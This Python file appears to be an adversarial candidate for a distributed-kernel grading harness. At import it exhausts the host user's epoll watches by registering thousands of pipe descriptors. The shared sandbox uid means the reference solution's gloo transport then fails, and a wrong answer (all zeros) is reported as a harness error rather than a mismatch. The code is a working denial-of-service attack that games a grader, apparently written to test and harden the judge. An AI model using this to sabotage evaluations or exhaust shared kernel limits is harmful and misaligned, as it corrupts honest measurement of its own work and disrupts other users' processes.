"""Attack (all-reduce): spend a per-user kernel limit that the reference's ranks share, so that the
reference cannot start and a wrong candidate ends as our harness_error.

Some kernel limits are counted per host user, not per namespace or process: the epoll watches
(``fs.epoll.max_user_watches``, 5.5 million on the 2-core machine), the pipe buffers
(``fs.pipe-user-pages-soft``). Confined, both sides' ranks ran as the same host uid (uid 1000 inside
each side, one host id outside), so whatever the candidate's ranks hold of such a limit is gone
for the reference's ranks too. At import each rank adds the same few thousand pipe descriptors to
a few thousand epoll instances until the kernel answers ENOSPC, and keeps them (the kernel memory
is a few hundred MiB, which the init's watch of resident memory does not see). The candidate is
then frozen and the reference starts: gloo's TCP transport adds each connection to an epoll set,
``epoll_ctl`` fails with ENOSPC, the reference's rank dies in ``init_process_group``, and the
judge reported ``harness_error`` for a candidate that returns zeros (it must fail
``value_mismatch``, or whatever the candidate's own failure is).

It does nothing outside the sandbox as root (the evaluator's own user there: exhausting it would
take every process of that user on the host with it, the judge included), nor anywhere its uid
is not the sandbox's 1000.
"""

import errno
import os
import select

import torch
import torch.distributed as dist

KEPT = []


def _exhaust() -> None:
    if os.getuid() != 1000:
        return
    dist.barrier()  # both ranks' own connections are made (and watched) before the watches run out
    fds = []
    try:
        for _ in range(900):
            fds += list(os.pipe())
    except OSError:
        pass
    KEPT.append(fds)
    while True:
        try:
            ep = select.epoll()
        except OSError:
            return  # out of descriptors: this rank holds what it can
        KEPT.append(ep)
        for fd in fds:
            try:
                ep.register(fd, select.EPOLLIN)
            except OSError as exc:
                if exc.errno == errno.ENOSPC:
                    return  # the user's watches are spent
                raise


_exhaust()


def solution(x, *, group):
    return torch.zeros_like(x)
